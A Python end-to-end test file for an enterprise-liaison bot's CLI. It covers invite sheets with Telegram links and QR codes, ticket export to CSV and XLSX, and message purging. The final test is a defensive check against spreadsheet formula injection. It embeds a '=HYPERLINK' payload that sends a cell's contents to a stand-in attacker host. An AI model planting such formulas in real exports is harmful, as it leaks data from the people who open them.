"""`xiaoer invites`, `xiaoer invites report`, `xiaoer tickets export` and `xiaoer purge` as an
operator uses them: the real command, a real database file."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import yaml
from openpyxl import load_workbook

from tests.conftest import ROOT
from tests.e2e.test_shell import DEMAND, xiaoer


def _config(tmp_path: Path, **privacy: int) -> Path:
    document = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
    document["channels"]["telegram"]["username"] = "@xiaoer_bot"
    if privacy:
        document["privacy"] = privacy
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
    return path


def test_invites_make_a_sheet_of_links_codes_and_qr_codes(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'i.db'}"
    nameless = xiaoer("invites", "-d", url, cwd=tmp_path)  # the shipped config: no username, no token
    assert nameless.returncode == 2
    assert "channels.telegram.username" in nameless.stderr
    config = _config(tmp_path)
    unknown = xiaoer("invites", "--liaison", "nobody", "-d", url, cwd=tmp_path, config=config)
    assert unknown.returncode == 2
    assert "--liaison nobody: no such officer" in unknown.stderr

    made = xiaoer("invites", "--liaison", "wang_lei", "-o", "out", "-d", url, cwd=tmp_path, config=config)
    assert made.returncode == 0, made.stderr
    assert "1 invite(s) written" in made.stdout
    sheet = load_workbook(tmp_path / "out" / "invites.xlsx").active
    assert sheet is not None
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert header[:3] == ["企业编号", "企业名称", "统一社会信用代码"]
    [row] = rows
    record = dict(zip(header, row, strict=True))
    code = str(record["邀请码"])
    assert record["企业编号"] == "xinyuan"
    assert record["包联干部"] == "王磊"
    assert record["Telegram 链接"] == f"https://t.me/xiaoer_bot?start={code}"
    assert record["企业微信发送"] == f"/start {code}"
    qr = tmp_path / "out" / str(record["二维码文件"])
    assert qr.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"

    with sqlite3.connect(
        tmp_path / "i.db"
    ) as conn:  # stored, unused, expiring (redeemed: test_wecom_binding)
        stored = conn.execute(
            "SELECT enterprise_id, used_at, expires_at > created_at FROM invites WHERE code = ?", (code,)
        ).fetchone()
    assert stored == ("xinyuan", None, 1)

    everyone = xiaoer("invites", "--all", "-o", "all", "-d", url, cwd=tmp_path, config=config)
    assert "4 invite(s) written" in everyone.stdout, everyone.stderr
    unbound = xiaoer("invites", "--unbound", "-d", url, cwd=tmp_path, config=config)
    assert unbound.returncode == 2  # the demo enterprises all have a contact bound
    assert "no enterprise matches" in unbound.stderr

    report = xiaoer("invites", "report", "-d", url, cwd=tmp_path, config=config)
    assert report.returncode == 0, report.stderr
    assert (
        "王磊：企业 1 家，已绑定 1（100%），未绑定 0，待用邀请 2 个" in report.stdout
    )  # --liaison, then --all
    assert "区工业和信息化局：企业 1 家" in report.stdout


def test_tickets_export_and_purge(tmp_path: Path) -> None:
    db = tmp_path / "t.db"
    url = f"sqlite+aiosqlite:///{db}"
    shell = xiaoer("shell", "-d", url, stdin=f"{DEMAND}\n", cwd=tmp_path)
    assert shell.returncode == 0, shell.stderr

    bad = xiaoer("tickets", "export", "--from", "2026-13-01", "--to", "2099-01-01", "-d", url, cwd=tmp_path)
    assert bad.returncode == 2
    assert "YYYY-MM-DD" in bad.stderr
    exported = xiaoer(
        "tickets", "export", "--from", "2020-01-01", "--to", "2099-12-31", "--format", "csv", "-o", "t.csv",
        "-d", url, cwd=tmp_path,
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    assert "1 ticket(s) written to t.csv" in exported.stdout
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as f:
        [row] = list(csv.DictReader(f))
    assert row["number"] == "1"
    assert row["text"] == DEMAND
    assert row["enterprise_name"] == "厦门鑫源精密机械有限公司"
    assert row["created_at"].endswith("+08:00")  # times in the configured zone
    assert row["status"] == "dispatched"
    assert row["resolve_by"]
    assert "survey_comments" in row
    xlsx = xiaoer("tickets", "export", "--from", "2020-01-01", "--to", "2099-12-31", "-d", url, cwd=tmp_path)
    assert xlsx.returncode == 0, xlsx.stderr
    assert (tmp_path / "tickets-2020-01-01-2099-12-31.xlsx").exists()

    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM message_log WHERE ticket_id = 1").fetchone() == (1,)
        conn.execute("UPDATE tickets SET status = 'closed', closed_at = '2020-01-02 00:00:00.000000'")
    unset = xiaoer("purge", "-d", url, cwd=tmp_path)
    assert unset.returncode == 2
    assert "--older-than" in unset.stderr
    config = _config(tmp_path, retain_messages_days=30)
    dry = xiaoer("purge", "--dry-run", "-d", url, cwd=tmp_path, config=config)
    assert "would delete 1 logged message(s)" in dry.stdout, dry.stderr
    purged = xiaoer("purge", "-d", url, cwd=tmp_path, config=config)
    assert "deleted 1 logged message(s)" in purged.stdout, purged.stderr
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM message_log WHERE ticket_id = 1").fetchone() == (0,)
        assert conn.execute("SELECT count(*) FROM tickets").fetchone() == (1,)  # the ticket stays
        assert conn.execute("SELECT count(*) FROM ticket_events WHERE ticket_id = 1").fetchone()[0] > 0


def test_an_exported_demand_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    """Formula injection: openpyxl wrote any text starting with "=" as a live formula, so a demand
    typed as `=HYPERLINK(…)` became a link (or worse) in the export; in a CSV, Excel runs text
    starting with = + - @ likewise. The .xlsx cell is text; the CSV cell starts with an apostrophe."""
    db = tmp_path / "t.db"
    url = f"sqlite+aiosqlite:///{db}"
    shell = xiaoer("shell", "-d", url, stdin=f"{DEMAND}\n", cwd=tmp_path)
    assert shell.returncode == 0, shell.stderr
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看进度")'
    with sqlite3.connect(db) as conn:  # as the person typed it (the shell's NLU reads it as no demand)
        conn.execute("UPDATE tickets SET text = ?", (formula,))
    span = ("--from", "2020-01-01", "--to", "2099-12-31", "-d", url)
    xlsx = xiaoer("tickets", "export", *span, "-o", "t.xlsx", cwd=tmp_path)
    assert xlsx.returncode == 0, xlsx.stderr
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    header = [cell.value for cell in sheet[1]]
    text = sheet.cell(row=2, column=header.index("text") + 1)
    assert (text.value, text.data_type) == (formula, "s")
    exported = xiaoer("tickets", "export", *span, "--format", "csv", "-o", "t.csv", cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as f:
        [row] = list(csv.DictReader(f))
    assert row["text"] == "'" + formula
